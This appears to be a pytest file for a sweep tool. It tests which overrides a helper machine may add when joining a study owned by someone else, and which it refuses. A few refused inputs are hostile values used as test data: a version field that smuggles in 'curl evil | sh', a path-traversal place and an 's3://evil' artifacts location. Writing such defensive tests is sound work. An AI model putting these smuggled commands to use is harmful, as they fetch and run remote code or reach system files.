"""What is composed of the overrides of a study's owner and those of a machine that helps, and what is refused."""

from collections.abc import Callable
from dataclasses import replace
from io import StringIO
from pathlib import Path

import pytest
from rich.console import Console
from tests.conftest import Sweep
from tests.postgres import PostgresServer
from tests.stores import VARIABLE

import sweep.study.recipe as recipes
from sweep.data.described import data_records
from sweep.data.load import load_benchmarks, load_training_set
from sweep.errors import InputError
from sweep.launch.liveness import alive_in, place_of
from sweep.records.data_record import DataRecord, write_records
from sweep.records.folder import StudyFolder
from sweep.run.displays import Shown
from sweep.run.joining import join_study
from sweep.settings.compose import Composer
from sweep.settings.joined import joined_overrides, joins, machine_settings, of_study, reaching_out
from sweep.settings.load import load_settings
from sweep.study.ownership import Ownership
from sweep.study.recipe import leave_recipe, recipe_of
from sweep.study.store import StudyStore

SMALL = (
    "+experiment=smoke",
    "data.records={high: 12, mid: 8, low: 6}",
    "evaluation.records=6",
    "study.near_copies=null",
    VARIABLE,
)


def test_only_launcher_equals_join_joins() -> None:
    assert joins(["study.name=x", "launcher=join"])
    assert not joins(["launcher=local", "study.name=join", "study.space={a: {grid: [1]}}", "launcher.workers=2"])


def test_what_belongs_to_a_machine_is_its_own_and_all_else_the_owners() -> None:
    owners = ["+experiment=smoke", "launcher=ray", "launcher.workers=8", "paths.sweeps=/mnt/a", "tracking=json_lines",
              "report.files=false", "study.storage=${oc.env:A}", "study.name=x", "train.steps=6",
              "study.space={ratio.monolingual: {grid: [0, 1]}}"]  # fmt: skip
    own = ["launcher=join", "launcher.threads=2", "paths.sweeps=/mnt/b", "study.storage=${oc.env:B}", "study.name=x",
           "train.steps=6"]  # fmt: skip
    assert joined_overrides(owners, own) == [
        "+experiment=smoke",
        "train.steps=6",
        "study.space={ratio.monolingual: {grid: [0, 1]}}",
        "launcher=join",
        "launcher.threads=2",
        "paths.sweeps='/mnt/b'",
        "study.storage=${oc.env:B}",
        "study.name='x'",
    ]


@pytest.mark.parametrize("own", ["train.steps=7", "study.seeds=[0]", "model.path=/m", "+experiment=other", "~loss"])
def test_what_is_the_owners_to_decide_is_refused(own: str) -> None:
    with pytest.raises(InputError, match="with launcher=join the settings are those of the command that owns"):
        joined_overrides(["train.steps=6"], ["launcher=join", own])


REACHING = [
    "study.artifacts=s3://bucket/folder",
    "study.artifacts='file:///folder'",
    "data.path=${oc.env:HOME}",
    "data.path='https://somewhere/data.jsonl'",
    "evaluation.path='simplecache::s3://bucket/file'",
    "model.trust_remote_code=true",
    "model={trust_remote_code: true}",
    "study.space={model.trust_remote_code: {grid: [true]}}",
    "study.space={model.query_prefix: {grid: ['a', '${oc.env:HOME}']}}",
    r"model.query_prefix=$\{oc.env\:HOME\}",
]


@pytest.mark.parametrize("override", REACHING)
def test_what_reaches_beyond_the_study_counts_only_if_the_own_command_says_it(override: str) -> None:
    assert reaching_out(["train.steps=6", override, "paths.sweeps=${oc.env:HOME}"]) == [override]
    with pytest.raises(InputError, match=r"run code, ask a server or read (.|\n)* repeat them in this command"):
        joined_overrides(["train.steps=6", override], ["launcher=join"])
    assert override in joined_overrides(["train.steps=6", override], ["launcher=join", override])
    other = "study.artifacts=s3://another/folder"
    with pytest.raises(InputError):
        joined_overrides(["train.steps=6", override], ["launcher=join", other])


def test_what_is_repeated_may_be_quoted_otherwise() -> None:
    own = ["launcher=join", 'study.artifacts="s3://bucket/folder"']
    owners = "study.artifacts='s3://bucket/folder'"
    assert joined_overrides([owners], own)[0] == owners


@pytest.mark.parametrize(
    "override",
    ["hydra.searchpath=[pkg://somewhere]", "+hydra/launcher=basic", "+x@hydra.run=y", "train.steps=1,2", "a=[", ""],
)
def test_what_is_no_setting_of_a_study_is_refused_whoever_says_it(override: str) -> None:
    with pytest.raises(InputError, match="the settings in the study's database have"):
        joined_overrides([override], ["launcher=join", override])


def test_an_owner_leaves_nothing_of_its_machine() -> None:
    given = ["+experiment=smoke", "tracking.uri=https://host/path", "paths.cache=/home/me", "launcher.options={a: b}"]
    given += ["study.storage=${oc.env:A}", "study.seeds=[0]"]
    assert of_study(given) == ["+experiment=smoke", "study.seeds=[0]"]


def test_a_study_has_to_be_named_and_reachable(monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(InputError, match=r"which study\? Give its study\.name=NAME"):
        machine_settings(Composer("sweep", ["launcher=join", VARIABLE]))
    with pytest.raises(InputError, match="needs a study on a PostgreSQL server"):
        machine_settings(Composer("sweep", ["launcher=join", "study.name=x"]))
    monkeypatch.setenv("SWEEP_STORAGE", "postgresql+psycopg://host/database")
    given = ["launcher=join", "study.name=x", VARIABLE, "data.path=/of/the/owner"]
    assert machine_settings(Composer("sweep", given)).study.name == "x"


def test_joining_has_to_stand_on_the_command_line(sweep: Sweep, tmp_path: Path) -> None:
    (tmp_path / "own" / "experiment").mkdir(parents=True)
    (tmp_path / "own" / "experiment" / "helps.yaml").write_text(
        "# @package _global_\ndefaults:\n  - override /launcher: join\n"
    )
    done = sweep("--config-dir", str(tmp_path / "own"), "+experiment=helps")
    assert done.returncode == 2
    assert "launcher=join has to stand on the command line" in done.stderr


Owned = tuple[StudyStore, StudyFolder, tuple[DataRecord, ...], list[str]]


@pytest.fixture
def owned(tmp_path: Path, postgres: PostgresServer, monkeypatch: pytest.MonkeyPatch) -> Owned:
    """A study whose owner has left what others need, and the overrides that join it from its own folder."""
    monkeypatch.setenv("SWEEP_STORAGE", postgres.url())
    monkeypatch.setenv("SWEEP_CACHE", str(tmp_path / "cache"))
    name = f"joined-{tmp_path.name}"
    composer = Composer("sweep", [*SMALL, f"study.name={name}"])
    settings = load_settings(composer)
    data = data_records(settings, load_training_set(settings), load_benchmarks(settings))
    folder = StudyFolder(tmp_path / "sweeps" / name)
    store = StudyStore(folder, settings.study, alive_in(folder.workers))
    store.check_settings(settings)
    leave_recipe(store, settings, composer, data, Ownership(name, None, ""))
    join = ["launcher=join", "launcher.workers=1", f"study.name={name}", VARIABLE, "study.patience_s=0"]
    return store, folder, data, join


def joining(join: list[str], sweeps: Path) -> int:
    composer = Composer("sweep", [*join, f"paths.sweeps={sweeps}"])
    return join_study(machine_settings(composer), composer, Shown(Console(file=StringIO())), "python -m JOIN")


def change_recipe(store: StudyStore, **changed: object) -> None:
    left = store.storage.attributes()[recipes.RECIPE]
    store.storage.change(lambda: store.storage.set_attribute(recipes.RECIPE, {**left, **changed}))


def test_a_recipe_is_read_as_it_was_left(owned: Owned) -> None:
    store, folder, data, join = owned
    recipe = recipe_of(store.storage.attributes())
    assert recipe is not None
    assert recipe.data == data
    assert recipe.place == place_of(folder.workers)
    assert recipe.overrides == SMALL[:-1]
    assert "storage" not in recipe.study
    joined = joined_overrides(recipe.overrides, join)
    assert not recipe.differences(load_settings(Composer("sweep", joined)))
    more = load_settings(Composer("sweep", [*joined, "study.seeds=[0,1]", "train.steps=9"]))
    lines = "\n".join(recipe.differences(more))
    assert "train.steps: 40 in the study, 9 now" in lines
    assert "study.seeds: [0] in the study, [0, 1] now" in lines


WHOLE = {"version": "0.1", "place": "0123abcd", "overrides": [], "config_dir": None, "study": {}}


@pytest.mark.parametrize(
    "left",
    [
        5,
        [],
        {},
        {**WHOLE, "data": []},
        {**WHOLE, "data": [5]},
        {**WHOLE, "data": [{}], "overrides": [{"a": 1}]},
        {**WHOLE, "version": "0.1; curl evil | sh"},
        {**WHOLE, "place": "../../../etc/x"},
    ],
)
def test_what_no_owner_has_left_is_refused(left: object) -> None:
    with pytest.raises(InputError, match="what the study's database has for those who join cannot be read"):
        recipe_of({"recipe": left, "settings": {}})


def of_another_version(store: StudyStore, data: tuple[DataRecord, ...]) -> None:
    change_recipe(store, version="0.0.1")


def of_other_data(store: StudyStore, data: tuple[DataRecord, ...]) -> None:
    first = replace(data[0], digest="0" * 64)
    change_recipe(store, data=[vars(first)])


def of_less_data(store: StudyStore, data: tuple[DataRecord, ...]) -> None:
    change_recipe(store, data=[vars(data[0])])


def of_a_place_elsewhere(store: StudyStore, data: tuple[DataRecord, ...]) -> None:
    left = store.storage.attributes()[recipes.RECIPE]
    change_recipe(store, overrides=[*left["overrides"], "study.artifacts=s3://evil/place"])


def of_another_tree(store: StudyStore, data: tuple[DataRecord, ...]) -> None:
    left = store.storage.attributes()[recipes.RECIPE]
    change_recipe(store, overrides=[*left["overrides"], "train.steps=9"], config_dir="/of/the/owner")


def of_a_group_that_is_not_here(store: StudyStore, data: tuple[DataRecord, ...]) -> None:
    change_recipe(store, overrides=["+experiment=mine"], config_dir="/of/the/owner")


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (
            of_another_version,
            r"runs version 0\.0\.1 of this program, .*: install multilingual-ratio-sweep",
        ),
        (of_other_data, r"the data here are not those of the study's owner: .* had .* SHA-256 0{12}"),
        (of_less_data, r"the data here are not those of the study's owner: it does not have "),
        (of_a_place_elsewhere, r"repeat them in this command:\n  'study\.artifacts=s3://evil/place'"),
        (
            of_another_tree,
            r"train\.steps: 40 in the study, 9 now\n(.|\n)*--config-dir with a copy of the owner",
        ),
        (of_a_group_that_is_not_here, r"not the same here: (.|\n)*mine(.|\n)*--config-dir with a copy of the owner"),
    ],
)
def test_what_would_be_another_study_here_is_refused(
    owned: Owned, change: Callable[[StudyStore, tuple[DataRecord, ...]], None], message: str
) -> None:
    store, folder, data, join = owned
    change(store, data)
    with pytest.raises(InputError, match=message):
        joining(join, folder.path.parent)
    assert not store.view.trials()


def test_a_folder_that_nobody_shares_is_refused_without_a_place_of_artifacts(owned: Owned, tmp_path: Path) -> None:
    _, _, _, join = owned
    with pytest.raises(InputError, match=r"is not the folder of the study's owner, .* set study\.artifacts=URL, or"):
        joining(join, tmp_path / "elsewhere")


def test_a_study_that_is_not_there_is_waited_for_and_then_named(owned: Owned, tmp_path: Path) -> None:
    *_, join = owned
    with pytest.raises(InputError, match=r"has no study 'missing', and none came for 0 s \(study\.patience_s\): run"):
        joining([*join, "study.name=missing"], tmp_path)
    assert not (tmp_path / "missing").exists()


def test_a_study_with_nothing_left_ends_at_once(owned: Owned) -> None:
    store, folder, data, join = owned
    write_records(folder.path, data)
    store.enqueue()
    while (claim := store.claim("w")) is not None:
        store.fail(claim, "a test")
    assert joining(join, folder.path.parent) == 0
    assert set(store.view.states().values()) == {"FAILED"}
    assert not (folder.path / "config.yaml").exists()
